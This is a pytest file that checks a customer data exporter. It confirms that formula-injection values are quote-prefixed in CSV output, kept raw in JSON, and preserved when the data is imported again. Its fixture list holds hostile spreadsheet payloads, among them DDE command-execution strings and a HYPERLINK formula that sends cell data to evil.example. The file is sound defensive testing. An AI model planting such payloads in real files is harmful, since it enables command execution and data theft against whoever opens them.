"""Formula injection: text a spreadsheet would run leaves CSV as text, JSON keeps it raw, re-import keeps it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from data.db import Database
from data.transfer.csv_formats import Entity, neutralise_formula, restore_formula
from data.transfer.exporter import export_text
from data.transfer.importer import import_file
from tests.factories import ADMIN, build_world

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_is_prefixed_with_a_quote_and_read_back_unchanged(value: str) -> None:
    cell = neutralise_formula(value)
    assert cell == "'" + value
    assert restore_formula(cell) == value


@pytest.mark.parametrize("value", ["Aino Oy", "O'Brien", "'quoted'", "a=b", "2026-11-25T08:00:00+00:00", ""])
def test_plain_text_is_left_alone(value: str) -> None:
    assert neutralise_formula(value) == value and restore_formula(value) == value


def test_customer_export_neutralises_formulas_in_csv_keeps_them_in_json_and_reimports_them(
    sqlite_db: Database, tmp_path: Path
) -> None:
    build_world(sqlite_db)
    header = "customer_code,customer_name,customer_phone,customer_notes,site_code,site_name,branch,address,city,lat,lon"
    rows = [
        f'X{i},"{name.replace(chr(34), chr(34) * 2)}",+358401234567,"{ATTACKS[1].replace(chr(34), chr(34) * 2)}",'
        f"S9{i},Office,HEL,@Street 1,Helsinki,-33.86,151.2"
        for i, name in enumerate(ATTACKS[:5])
    ]
    source = tmp_path / "in.csv"
    source.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    import_file(sqlite_db, ADMIN, Entity.CUSTOMERS, source)

    raw = json.loads(export_text(sqlite_db, Entity.CUSTOMERS, "json"))
    imported = [r for r in raw if r["customer_code"].startswith("X")]
    assert [r["customer_name"] for r in imported] == ATTACKS[:5]  # the import kept every value as typed
    assert {r["customer_notes"] for r in imported} == {ATTACKS[1]} and imported[0]["address"] == "@Street 1"

    exported = export_text(sqlite_db, Entity.CUSTOMERS, "csv")
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]  # negative coordinates stay numbers
    assert "'+358401234567" in cells and "-33.86" in cells

    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    report = import_file(sqlite_db, ADMIN, Entity.CUSTOMERS, again)
    assert report.unchanged == report.rows and not report.errors  # the quotes added on export are not data


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
